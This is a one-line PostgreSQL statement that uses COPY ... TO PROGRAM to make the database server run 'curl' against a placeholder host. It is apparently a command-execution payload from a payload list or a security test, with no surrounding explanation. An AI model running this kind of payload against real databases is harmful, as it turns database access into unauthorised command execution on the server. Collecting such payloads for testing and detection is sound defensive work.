COPY (SELECT 1) TO PROGRAM 'curl http://example.com'
